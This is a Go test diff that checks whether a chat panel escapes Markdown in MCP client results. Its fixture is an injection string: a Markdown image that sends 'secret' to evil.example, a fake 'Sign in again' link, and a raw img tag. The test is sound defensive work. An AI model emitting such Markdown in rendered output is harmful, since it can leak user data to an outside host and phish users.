@@ -103,3 +103,36 @@ func TestApprovalFrameSaysAnMCPClientAsks(t *testing.T) {
 		t.Fatalf("frame %+v", got)
 	}
 }
+
+// An MCP client's call is shown in the panel, which renders Markdown: a
+// page title or arguments that are Markdown stay words, never an image the
+// panel fetches, a link or HTML.
+func TestOutsideLinesAreNoMarkdown(t *testing.T) {
+	var o outsideLines
+	s := &chatSender{}
+	c := navigated("md")
+	c.Result = `![](https://evil.example/c?q=secret) [Sign in again](https://evil.example/login) <img src=x>`
+	if err := o.show(s, c); err != nil {
+		t.Fatal(err)
+	}
+	got := strings.Join(s.text, "")
+	for _, md := range []string{"![", "](", "<img"} {
+		if strings.Contains(unescaped(got), md) {
+			t.Errorf("the line keeps Markdown %q: %s", md, got)
+		}
+	}
+}
+
+// unescaped is s without its backslash escapes: what a Markdown renderer
+// could still take for Markdown.
+func unescaped(s string) string {
+	var b strings.Builder
+	for i := 0; i < len(s); i++ {
+		if s[i] == '\\' && i+1 < len(s) {
+			i++
+			continue
+		}
+		b.WriteByte(s[i])
+	}
+	return b.String()
+}
